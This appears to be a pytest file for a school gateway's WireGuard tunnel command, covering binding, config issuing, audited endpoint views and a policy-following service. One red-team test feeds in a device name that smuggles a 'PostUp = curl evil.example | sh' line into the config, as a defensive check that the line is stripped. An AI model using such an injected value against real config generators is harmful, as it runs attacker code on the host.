"""`schoolgate tunnel`: the real command run inside the lab's gateway namespace
(tests/ops/test_wireguard_interface.py builds it), against a real SQLite store and a policy
with `devices.tunnel`."""

from __future__ import annotations

import os
import signal
import subprocess
import sys
import time
from datetime import UTC, datetime
from pathlib import Path

import pytest

from agent.tunnel.config import TunnelConfig, new_private_key, public_key
from proxy_addons.cli import main as cli
from proxy_addons.cli.tunnel import wg_quick
from proxy_addons.devices import enrolment, tunnels
from proxy_addons.ops.wireguard import interface
from proxy_addons.workflow import audit
from tests.conftest import ROOT, copy_policy
from tests.ops.test_wireguard_interface import (  # noqa: F401  (lab_fixture: "lab")
    GATEWAY_UNDERLAY,
    NEEDS_WIREGUARD,
    POOL,
    Lab,
    lab_fixture,
    run,
)

NOW = datetime(2026, 12, 7, 9, 0, tzinfo=UTC)


def _policy(lab: Lab, listen_port: int = 51820) -> Path:
    path = copy_policy(lab.tmp)
    _write_tunnel(path, lab, listen_port)
    return path


def _write_tunnel(path: Path, lab: Lab, listen_port: int) -> None:
    text = path.read_text().split("\ndevices:\n")[0]
    path.write_text(
        text + "\ndevices:\n  tunnel:\n"
        f"    pool: {POOL}\n    endpoint: {GATEWAY_UNDERLAY}:{listen_port}\n"
        f"    interface: {lab.tunnel.interface}\n    listen_port: {listen_port}\n"
    )


def schoolgate(lab: Lab, policy: Path, *args: str) -> subprocess.CompletedProcess[str]:
    """`schoolgate tunnel ...` in the gateway's namespace, as the service would run it."""
    argv = [sys.executable, "-m", "proxy_addons.cli.main", "tunnel", *args]
    argv += ["--policy", str(policy), "--var", str(lab.tmp)]
    return subprocess.run(
        ["ip", "netns", "exec", lab.gateway, *argv],
        capture_output=True,
        text=True,
        timeout=60,
        cwd=ROOT,
    )


def test_without_devices_tunnel_the_command_says_tunnels_are_off(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    policy = copy_policy(tmp_path)
    code = cli.main(["tunnel", "up", "--policy", str(policy), "--var", str(tmp_path)])
    assert code == 1 and "no devices.tunnel section" in capsys.readouterr().err


def test_endpoints_need_a_name_and_a_devices_name_adds_no_config_lines(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Red team (issue 17): where pupils are is never shown unaudited; a name stored before
    reports were refused control characters can't add a PostUp line to `issue`'s config."""
    policy = copy_policy(tmp_path)
    text = policy.read_text().split("\ndevices:\n")[0]
    policy.write_text(f"{text}\ndevices:\n  tunnel:\n    pool: {POOL}\n    endpoint: gw:51820\n")
    argv = ["tunnel", "status", "--endpoints", "--policy", str(policy), "--var", str(tmp_path)]
    assert cli.main(argv) == 1 and "give --as NAME" in capsys.readouterr().err
    assert cli.main([*argv, "--as", ""]) == 1
    config = TunnelConfig("10.123.0.2", public_key(new_private_key()), "gw:51820", "10.123.0.1",
                          ("0.0.0.0/0",))  # fmt: skip
    binding = tunnels.Binding(
        "dev-1", "pc)\n[Interface]\nPostUp = curl evil.example | sh\n#\x1b[2K", "k", "10.123.0.2",
        NOW, "it\nsupport",
    )  # fmt: skip
    text = wg_quick(config, new_private_key(), binding)
    lines = text.splitlines()
    assert [x for x in lines if x.startswith("[")] == ["[Interface]", "[Peer]"]
    assert len(lines) == 11 and lines[0].startswith("# ") and "\x1b" not in text
    assert not any(x.startswith("PostUp") for x in lines)


@NEEDS_WIREGUARD
def test_up_bind_and_status(lab: Lab) -> None:
    policy = _policy(lab)
    done = schoolgate(lab, policy, "up")
    assert done.returncode == 0, done.stderr
    assert f"{lab.tunnel.interface} is up (made with" in done.stdout
    assert "10.123.0.1/24, UDP 51820" in done.stdout
    assert interface.show(lab.tunnel.interface, lab.cmd) is not None

    laptop, _ = enrolment.enrol(lab.store, "s", b"s", "laptop-07", NOW)
    key = public_key(new_private_key())
    done = schoolgate(lab, policy, "bind", laptop, key, "--as", "it.support")
    assert done.returncode == 0, done.stderr
    assert f"{laptop} (laptop-07): tunnel address 10.123.0.2" in done.stdout
    bound = tunnels.binding_of(lab.store, laptop)
    assert bound is not None and bound.issued_by == "it.support"

    status = schoolgate(lab, policy, "status")
    assert status.returncode == 0, status.stderr
    assert "NOT ON THE INTERFACE" in status.stdout  # bound, not synced yet
    schoolgate(lab, policy, "up")
    status = schoolgate(lab, policy, "status")
    line = next(x for x in status.stdout.splitlines() if laptop in x)
    assert "laptop-07" in line and "10.123.0.2" in line and "never" in line
    assert "NOT ON THE INTERFACE" not in status.stdout and "from " not in status.stdout
    assert "1 device bound, 1 peer on the interface" in status.stdout

    refused = schoolgate(lab, policy, "status", "--endpoints")
    assert refused.returncode == 1 and "--as" in refused.stderr
    shown = schoolgate(lab, policy, "status", "--endpoints", "--as", "it.support")
    assert shown.returncode == 0 and "from -" in shown.stdout
    looks = [r for r in audit.records(lab.store) if r.action == "tunnel.endpoints_viewed"]
    assert [r.actor for r in looks] == ["it.support"]

    taken = schoolgate(lab, policy, "bind", "no-such-device", key, "--as", "it.support")
    assert taken.returncode == 1 and "no device" in taken.stderr


@NEEDS_WIREGUARD
def test_issue_prints_a_config_a_wireguard_app_connects_with(lab: Lab) -> None:
    policy = _policy(lab)
    assert schoolgate(lab, policy, "up").returncode == 0
    tablet, _ = enrolment.enrol(lab.store, "s", b"s", "tablet-12", NOW)
    issued = schoolgate(lab, policy, "issue", tablet, "--as", "it.support")
    assert issued.returncode == 0, issued.stderr
    assert "PRIVATE KEY" in issued.stderr and "keep no copy" in issued.stderr
    config = issued.stdout
    assert "[Interface]\nPrivateKey = " in config and "Address = 10.123.0.2/32" in config
    assert f"Endpoint = {GATEWAY_UNDERLAY}:51820" in config and "AllowedIPs = 0.0.0.0/0" in config
    private = next(x for x in config.splitlines() if x.startswith("PrivateKey = ")).split()[-1]
    bound = tunnels.binding_of(lab.store, tablet)
    assert bound is not None and bound.public_key == public_key(private)
    assert private not in (lab.tmp / "schoolgate.db").read_bytes().decode(errors="replace")

    # The device imports it as the WireGuard app would (wg-quick's own parser strips what
    # only wg-quick reads), and reaches the gateway once the gateway has synced.
    schoolgate(lab, policy, "up")
    conf = lab.tmp / "sgtab.conf"
    conf.write_text(config)
    conf.chmod(0o600)
    stripped = run("wg-quick", "strip", str(conf)).stdout
    (lab.tmp / "sgtab.wg").write_text(stripped)
    ns, link = f"sgwg-d9-{lab.tag}", f"wsgd9{lab.tag}"
    run("ip", "netns", "add", ns)
    lab.namespaces.append(ns)
    run("ip", "link", "add", f"vsgd9{lab.tag}", "netns", ns, "type", "veth", "peer", "name",
        f"gsgd9{lab.tag}", "netns", lab.gateway)  # fmt: skip
    run("ip", "-n", lab.gateway, "link", "set", f"gsgd9{lab.tag}", "master", f"br{lab.tag}", "up")
    run("ip", "-n", ns, "addr", "add", "172.31.250.19/24", "dev", f"vsgd9{lab.tag}")
    run("ip", "-n", ns, "link", "set", f"vsgd9{lab.tag}", "up")
    lab.in_ns(ns, "wireguard-go", link)
    lab.in_ns(ns, "wg", "setconf", link, str(lab.tmp / "sgtab.wg"))
    lab.set_address(ns, link, "10.123.0.2")
    assert lab.reaches_gateway(ns)


def _peers(lab: Lab) -> dict[str, tuple[str, ...]]:
    found = interface.show(lab.tunnel.interface, lab.cmd)
    return {} if found is None else {p.public_key: p.allowed_ips for p in found.peers}


def _until(what: str, check: object) -> None:
    """Waits (at most 30 s) for the running service to have done something."""
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline:
        if check():  # type: ignore[operator]
            return
        time.sleep(0.2)
    raise AssertionError(f"the service did not {what}")


@NEEDS_WIREGUARD
def test_run_follows_the_store_and_the_policy_until_stopped(lab: Lab) -> None:
    policy = _policy(lab)
    argv = [sys.executable, "-m", "proxy_addons.cli.main", "tunnel", "run"]
    argv += ["--policy", str(policy), "--var", str(lab.tmp)]
    service = subprocess.Popen(
        ["ip", "netns", "exec", lab.gateway, *argv],
        cwd=ROOT,
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        text=True,
    )
    lab.processes.append(service)  # type: ignore[arg-type]
    _until("bring the interface up", lambda: interface.exists(lab.tunnel.interface, lab.cmd))

    laptop, _ = enrolment.enrol(lab.store, "s", b"s", "laptop-07", NOW)
    key = public_key(new_private_key())
    tunnels.bind(lab.store, lab.tunnel, laptop, key, NOW, "device")
    _until("add the bound device", lambda: _peers(lab) == {key: ("10.123.0.2/32",)})
    enrolment.revoke(lab.store, laptop, "dsl", "lost", NOW)
    _until("remove the revoked device", lambda: _peers(lab) == {})

    _write_tunnel(policy, lab, 51999)  # the policy moves the listen port
    _until(
        "follow the edited policy",
        lambda: (
            (found := interface.show(lab.tunnel.interface, lab.cmd)) is not None
            and found.listen_port == 51999
        ),
    )
    os.kill(service.pid, signal.SIGTERM)
    assert service.wait(timeout=30) == 0
    assert not interface.exists(lab.tunnel.interface, lab.cmd)  # nobody follows the store
    log = service.stdout.read() if service.stdout else ""
    assert f"added 1 peer ({laptop})" in log and f"removed 1 peer ({laptop})" in log
    assert "devices.tunnel changed in the policy" in log and "SIGTERM received" in log
